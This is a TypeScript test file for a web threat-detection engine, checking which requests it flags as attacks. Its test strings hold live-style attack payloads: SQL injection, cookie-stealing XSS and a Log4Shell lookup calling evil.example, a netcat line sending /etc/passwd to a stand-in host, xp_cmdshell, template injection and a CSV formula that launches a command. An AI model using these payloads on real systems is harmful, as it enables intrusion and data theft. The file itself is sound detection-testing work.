/** What the words of a request make doubtful, and what they never do. */
import { describe, expect, test } from 'vitest';
import { rank } from '../../../server/engine/threat/answer/score.ts';
import { detectWeb, never, openThreatEngine, readEvents } from '../../support/threat-engine.ts';

const engine = await openThreatEngine();
const isFlagged = async (text: string) =>
  rank((await engine.methods.analyze({ text }, never)).severity) >= rank('medium');
const post = (path: string, body: object, head = '') =>
  `POST ${path} HTTP/1.1\nHost: desk.firma.example\nContent-Type: application/json\n${head}\n${JSON.stringify(body)}`;
const ids = (text: string) =>
  readEvents(text)
    .flatMap(detectWeb)
    .filter(({ level }) => rank(level) >= rank('medium'))
    .map(({ id }) => id);

describe('a report on a defect', () => {
  const report = {
    project: 'SHOP',
    summary: 'Preview of reviews shows <script>alert(1)</script> unescaped',
    steps: 'Found in code review, fixed in the branch, please retest on staging and close the ticket.',
  };

  test('may quote what it is about', async () => {
    expect(await isFlagged(post('/api/issues', report))).toBe(false);
    expect(
      await isFlagged(
        post('/api/issues', {
          标题: '评论预览未转义',
          说明: '输入 <script> 会执行,已修复,待回归测试,请关闭工单',
        }),
      ),
    ).toBe(false);
  });

  test('quotes nothing in its address, in a header, or where the payload is all there is', async () => {
    expect(await isFlagged(post('/api/issues?id=1%27+union+select+1,2--', report))).toBe(true);
    expect(await isFlagged(post('/api/issues', report, 'Referer: /<script>alert(1)</script>\n'))).toBe(true);
    expect(await isFlagged(post('/api/issues', { summary: report.summary }))).toBe(true);
    expect(
      await isFlagged(
        post('/api/issues', { ...report, summary: '1; cat /etc/passwd | nc 203.0.113.7 4444' }),
      ),
    ).toBe(true);
  });
});

describe('friendly words of whoever attacks', () => {
  const friendly = 'Thank you for the lovely update, please retest on staging and close the ticket today.';

  test.each([
    "1' UNION ALL SELECT null,username,password FROM users WHERE role='admin'-- -",
    "' or 1=1--",
    '<img src=x onerror=alert(document.cookie)>',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    '../../../../etc/passwd',
  ])('say nothing of another field: %s', async (payload) => {
    expect(await isFlagged(post('/api/comments', { id: payload, comment: friendly }))).toBe(true);
    // A quotation of it excuses no other field that holds it.
    const quoted = `${friendly} ${payload}`;
    expect(await isFlagged(post('/api/comments', { comment: quoted, id: payload }))).toBe(true);
    expect(await isFlagged(post(`/api?id=${encodeURIComponent(payload)}`, { a: quoted, b: 1 }))).toBe(true);
  });

  test.each([
    ['content', "1' UNION SELECT username,password FROM users-- -"],
    ['body', "'; EXEC master..xp_cmdshell 'whoami'--"],
    ['comment', "<script>fetch('//evil.example/?c='+document.cookie)</script>"],
    ['description', '; cat /etc/passwd | nc 203.0.113.7 4444'],
    ['template', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
    ['message', '${jndi:ldap://evil.example/a}'],
  ])('hide nothing that runs inside a text: %s, %s', async (field, payload) => {
    const wrapped = `${friendly} ${payload} Kind regards, see you at the office.`;
    expect(await isFlagged(post('/api/comments', { title: 'Re: update', [field]: wrapped }))).toBe(true);
  });
});

test('places that a mail fills in are no template injection, expressions are', () => {
  const template = (text: string) => ids(post('/api/render', { template: text, to: 'kim@firma.example' }));
  expect(
    template("Dear {{ customer.name | title }}, table {{ table | default('our best') }} is yours."),
  ).toEqual([]);
  expect(template('Dear {{ config.items() }}')).not.toEqual([]);
  expect(template('Dear {{ request | attr("application") }}')).not.toEqual([]);
  expect(ids('GET /hello?name=%7B%7B7*7%7D%7D HTTP/1.1')).not.toEqual([]);
});

test('an ampersand between everyday words begins no command', () => {
  const query = (text: string) => ids(`GET /?utm_campaign=${encodeURIComponent(text)} HTTP/1.1`);
  expect(query('winter sale & more')).toEqual([]);
  expect(query('wash & fold')).toEqual([]);
  expect(query('127.0.0.1 & who')).not.toEqual([]);
  expect(query('photo.png&who')).not.toEqual([]);
  expect(query('winter | more')).not.toEqual([]);
});

test('cells of a table are read without the quotes of the table', () => {
  const table = (cell: string) =>
    ids(`POST /import HTTP/1.1\nContent-Type: text/csv\n\ndate,text\n2026-01-02,${cell}`);
  expect(table('"=Office supplies & ""paper"""')).toEqual([]);
  expect(table(`"=cmd|'/c calc'!A1"`)).not.toEqual([]);
});

describe('a path of those who run a service', () => {
  const get = (host: string, path = '/api/v1/pods?limit=50', method = 'GET') =>
    `${method} ${path} HTTP/1.1\nHost: ${host}\nUser-Agent: Lens/6.5`;

  test('is asked for within the house', async () => {
    expect(await isFlagged(get('kube-api.internal'))).toBe(false);
  });

  test('is strange from outside', async () => {
    expect(await isFlagged(get('www.firma.example'))).toBe(true);
    expect(await isFlagged(get('203.0.113.9:10250'))).toBe(true);
  });
});
